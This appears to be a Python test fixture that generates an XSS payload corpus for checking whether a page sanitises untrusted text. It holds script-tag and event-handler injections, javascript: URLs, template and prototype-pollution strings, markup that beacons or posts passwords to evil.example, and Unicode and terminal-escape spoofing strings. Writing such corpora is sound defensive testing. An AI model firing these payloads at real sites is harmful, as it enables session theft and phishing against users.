"""Texts of people who want a page to do something: script, markup, style, pictures, links, templates, letters that hide or turn others,
letters that look like others, terminal codes, our own words and signs, and sheer length. Each sets window.pwned when it runs."""

RUN = 'window.pwned=1'

_SCRIPT = [
    '<script>%s</script>', '<ScRiPt>%s</sCrIpT>', '<script src="data:text/javascript,%s"></script>', '<script>%s//', '"><script>%s</script>',
    "'><script>%s</script>", '</title><script>%s</script>', '</textarea><script>%s</script>', '</style><script>%s</script>',
    '<!--><script>%s</script>', '<![CDATA[<script>%s</script>]]>', '<script type=module>%s</script>', '<script\x0c>%s</script>',
    '<<script>script>%s<</script>/script>', '\\u003cscript\\u003e%s\\u003c/script\\u003e', '&lt;script&gt;%s&lt;/script&gt;',
    '&#60;script&#62;%s&#60;/script&#62;', '%%3Cscript%%3E%s%%3C/script%%3E', '+ADw-script+AD4-%s+ADw-/script+AD4-', '＜script＞%s＜/script＞',
    '<noscript><p title="</noscript><script>%s</script>">', '<template><script>%s</script></template>',
    '<iframe srcdoc="<script>parent.%s</script>"></iframe>', '<iframe src="javascript:parent.%s">', '<object data="javascript:%s">',
    '<embed src="javascript:%s">', '<base href="javascript:%s//">', '<meta http-equiv="refresh" content="0;url=javascript:%s">',
    '<form action="javascript:%s"><button>send</button></form>', '<button formaction="javascript:%s">x</button>', '<isindex action="javascript:%s">',
    '<a href="javascript:%s">click</a>', '<a href="JaVaScRiPt:%s">click</a>', '<a href="java\tscript:%s">click</a>', '<a href=" javascript:%s">click</a>',
    '<a href="data:text/html,<script>opener.%s</script>">x</a>', '<a href="vbscript:%s">x</a>', 'javascript:%s', 'data:text/html,<script>%s</script>',
    '[click](javascript:%s)', '![x](javascript:%s)', '{{constructor.constructor("%s")()}}', '${%s}', '#{%s}', '<%%= %s %%>', '{%% raw %%}%s{%% endraw %%}',
    '`${%s}`', "';%s;//", '";%s;//', ');%s;//', '*/%s/*', '\u2028%s\u2029', '\\";%s;//', '</script><script>%s</script>',
    '__proto__[pwned]=%s', 'constructor.prototype.pwned=%s', '"__proto__":{"x":"%s"}',
]

_EVENTS = [
    ('img', 'src=x onerror'), ('img', 'src onerror'), ('img/src/onerror', '//'), ('svg', 'onload'), ('svg/onload', ''), ('body', 'onload'), ('body', 'onpageshow'),
    ('input', 'autofocus onfocus'), ('select', 'autofocus onfocus'), ('textarea', 'autofocus onfocus'), ('keygen', 'autofocus onfocus'),
    ('details', 'open ontoggle'), ('video', 'src=x onerror'), ('audio', 'src=x onerror'), ('video><source', 'onerror'), ('marquee', 'onstart'),
    ('div', 'style="animation-name:x" onanimationstart'), ('p', 'onmouseover'), ('a', 'onclick'), ('object', 'onerror'), ('iframe', 'onload'), ('link', 'rel=stylesheet href=/x onerror'),
    ('style', 'onload'), ('script', 'src=/x onerror'), ('x', 'contenteditable autofocus onfocus'), ('math><maction', 'onclick'), ('svg><animate', 'onbegin'),
    ('svg><set', 'onbegin'), ('dialog', 'open oncancel'), ('button', 'popovertarget=x onbeforetoggle'),
]

_MARKUP = [
    '<b>bold</b>', '<h1>big</h1>', '<plaintext>', '<!-- comment', '<style>*{display:none}</style>', '<style>.strip{visibility:hidden}</style>', '<style>@import "http://evil.example/x.css";</style>',
    '<link rel=stylesheet href=http://evil.example/x.css>', '<img src=http://evil.example/beacon>', '<img srcset="http://evil.example/beacon 1x">', '<video poster=http://evil.example/x>',
    '<svg><image href=http://evil.example/x></svg>', '<svg><foreignObject><body onload=window.pwned=1></foreignObject></svg>', '<svg><use href="data:image/svg+xml,x#y"></svg>',
    '<math><mtext><script>window.pwned=1</script></mtext></math>', '<table background=http://evil.example/x>', '<input type=image src=http://evil.example/x>',
    '<form action=http://evil.example><input name=password type=password></form>', '<iframe src=http://evil.example></iframe>', '<frameset><frame src=http://evil.example></frameset>',
    '<base href=http://evil.example/>', '<meta http-equiv=refresh content="0;url=http://evil.example">', '<meta http-equiv=Content-Security-Policy content="default-src *">',
    '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:red">', '<div class="strip"><span class="verdict verdict-good">Signed by the sender</span></div>',
    '<span class="tlp tlp-clear">TLP:CLEAR</span>', '</pre></div><div class="strip">', '<div id=main>', '<form id=top>', '<a id=document name=cookie>', '<img name=getElementById>',
    '<slot name=x>', '<div is=x-y>', '<x-element>', '<object type=text/html data=/>', '<applet code=x>', '<bgsound src=http://evil.example/x>', '<dialog open>Log in again</dialog>',
]

_LETTERS = [
    '\u202egpj.exe', 'invoice\u202efdp.exe', '\u2066\u2067isolates\u2069\u2069', '\u200bzero\u200bwidth', 'zero\u200djoiner', '\ufeffmark', 'soft\u00adhyphen', '\u2060joiner',
    '\u061carabic mark', '\u180emongolian', '\U000e0041\U000e0042tags', 'pаypal.com (cyrillic a)', 'ｅｘａｍｐｌｅ．ｃｏｍ', 'xn--pypal-4ve.com', 'ΑΒΓ ✔ Signed by the sender',
    '✔ Encrypted ✔ Signed by the sender', 'TLP:CLEAR', 'Event  root  Assigned to nobody', '[EXCSIRT #2026-000001] looks like ours', 'z̷̢̛a̸l̶g̷o̸' * 20, '\u0301' * 400,
    '\x1b[31mred\x1b[0m', '\x1b]0;title\x07', '\x1b[2J\x1b[H', '\x9b31m', '\x08\x08\x08\x08', '\x00nul', '\x7f', '\r\nSet-Cookie: x=y', 'line\u2028separator', 'a\u0085b',
    '🏴\U000e0067\U000e0062\U000e007f', '\ud7ff\ue000 private', '\U0010ffff', 'مرحبا بالعالم', 'שלום', '﷽' * 60, '𒐫' * 60, 'ﬀ ligature', 'İstanbul ı',
    'a' * 998, 'long' + '\u3042' * 3000, 'spaces' + ' ' * 2000 + 'end', '\t' * 300, 'https://evil.example/' + 'a/' * 400,
]


def payloads():
    """All of them, each once."""
    found = [template % RUN for template in _SCRIPT]
    found += ['<%s%s="%s">' % (tag, ' ' + event if event else '', RUN) for tag, event in _EVENTS]
    found += _MARKUP + _LETTERS
    return list(dict.fromkeys(found))
